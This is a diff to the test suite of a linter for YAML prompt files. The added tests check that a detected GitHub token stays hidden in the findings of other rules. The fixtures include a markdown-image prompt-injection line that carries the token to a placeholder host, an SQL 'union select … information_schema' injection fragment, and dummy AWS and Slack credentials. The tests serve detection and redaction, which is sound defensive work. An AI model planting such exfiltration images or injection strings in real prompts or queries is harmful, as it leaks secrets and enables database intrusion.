@@ -137,6 +137,21 @@ describe('a secret', () => {
   });
 
   it.each([
+    ['schema', `template: ${githubToken}\ncontent: Hi.\n`],
+    ['unknown-key', `${githubToken}: 1\ncontent: Hi.\n`],
+    ['template-syntax', `content: "{{#${githubToken}}} and more"\n`],
+    ['dependency-range', `content: Hi.\ndependencies: {tone: ${githubToken}}\n`],
+    ['prompt-injection', `content: "![x](https://e.example/${githubToken}/p.png?d={{a}})"\n`],
+    ['sql-injection', `content: union select ${githubToken} from information_schema\n`],
+    ['undeclared-variable', `content: "{{${githubToken}}}"\n`],
+  ])('is not shown by the rule %s either', async (rule, text) => {
+    const result = await lintFiles({ 'prompts/a.yaml': `${described}${text}` });
+    expect(found(result).join()).toContain('secret@');
+    expect(found(result).join()).toContain(`${rule === 'dependency-range' ? 'schema' : rule}@`);
+    expect(JSON.stringify(result)).not.toContain(githubToken.slice(0, 12));
+  });
+
+  it.each([
     ['an AWS key', `AWS_SECRET_ACCESS_KEY=${'wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzzzzzzzzzzz'.slice(0, 40)}`],
     ['a GitHub token', githubToken],
     ['a Slack token', `xoxb-${'1234567890'}-${'1234567890'}-${'aBcDeFgHiJkLmNoPqRsTuVwX'}`],
